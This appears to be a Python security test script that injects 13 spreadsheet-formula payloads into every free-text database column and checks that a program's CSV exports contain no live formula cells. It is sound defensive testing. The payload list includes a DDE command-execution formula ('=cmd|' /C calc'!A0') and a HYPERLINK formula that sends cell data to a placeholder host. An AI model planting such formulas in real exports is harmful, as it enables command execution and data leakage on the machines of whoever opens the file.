#!/usr/bin/env python3
"""A live formula in an export. Every text column of every table that takes free text gets each of 13 payloads (by SQL in a private copy,
and by --write through the program, so that the journal has them too); then every --export must hold no cell that a spreadsheet would run."""
import argparse, csv, io
from lib import *
csv.field_size_limit(1 << 30)
ap = argparse.ArgumentParser(); common(ap); ap.add_argument("--export", action="append", required=True, help="writes CSV to {out}"); ap.add_argument("--write", action="append", default=[], help="{val} is the payload")
ap.add_argument("--payloads", type=int, default=13)
a = ap.parse_args(); bad = []; st = {}; tried = set(); shown = set()
PAYLOADS = ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "=HYPERLINK(\"http://example.invalid/?\"&A1)", "＝1+1", "－1+1", "=cmd|' /C calc'!A0", "=", "'=1", "＠A1"][:a.payloads]
TRIG = "=+-@\t\r\n＝＋－＠"
d = tempfile.mkdtemp(prefix="exp-", dir=a.work); db0 = setup(a.init, d); db = os.path.join(d, "p.db"); out = os.path.join(d, "out.csv")
# numbers, dates and a missing value's dash are no formulas
SAFE = re.compile(r"-?\d[\d,]*(\.\d+)?%?|-|－|—")
def columns(c):
    for (t,) in c.execute("select name from sqlite_master where type='table' and name not like 'sqlite_%' order by name").fetchall():
        for _, n, ty, *_ in c.execute(f"pragma table_xinfo({t})"):
            if ty in ("TEXT", "ANY"): yield t, n
for p in PAYLOADS:
    shutil.copyfile(db0, db)
    for i, w in enumerate(a.write):
        r = run(expand(w, db=db, val=p, dir=d)); k = "write_" + kind(r); st[k] = st.get(k, 0) + 1
        if kind(r) not in ("ok", "error"): bad.append(f"{p!r}: {w}: {kind(r)} {r}")
    c = sqlite3.connect(db, isolation_level=None); c.execute("pragma foreign_keys=on")
    c.executescript("".join(f'drop trigger "{n}";' for (n,) in c.execute("select name from sqlite_master where type='trigger'").fetchall()))
    for t, n in list(columns(c)):
        if (t, n) in (("change", "before"), ("change", "after"), ("change", "table_name"), ("journal", "hash"), ("parameter", "value"), ("personal", "salt"), ("personal", "value")): continue
        # one row after another, so that a column that must be unique takes it too; what a CHECK or a foreign key refuses is no free text
        for (i,) in c.execute(f"select rowid from {t} order by rowid limit 3").fetchall():
            try: c.execute(f"update {t} set {n}=? where rowid=?", (p, i)); tried.add((t, n, p))
            except sqlite3.IntegrityError: pass
    c.execute("update journal set arguments=json_array(?)", (p,)); tried.add(("journal", "arguments", p)); c.close()
    for x in a.export:
        if os.path.exists(out): os.unlink(out)
        r = run(expand(x, db=db, out=out, dir=d)); k = kind(r); st[k] = st.get(k, 0) + 1
        if k not in ("ok", "error"): bad.append(f"{p!r}: {x}: {k} {r}")
        if not os.path.exists(out):
            if p == PAYLOADS[0]: st.setdefault("no_export", []).append(" ".join(x.split()[3:]) + ": " + r.err.decode("utf-8", "replace")[:90])
            continue
        for row in csv.reader(io.StringIO(open(out, encoding="utf-8-sig", newline="").read(), newline="")):
            for cell in row:
                if p.strip() in cell: shown.add((x, p))
                if cell[:1] and (cell[0] in TRIG) and not SAFE.fullmatch(cell): bad.append(f"{p!r}: {x.split('--db {db} ')[-1]}: live {cell[:60]!r}")
shutil.rmtree(d); report("exports", bad, {"tried": len(tried), "exports": len(a.export), "exports_with_a_payload": len({x for x, _ in shown}), **st})
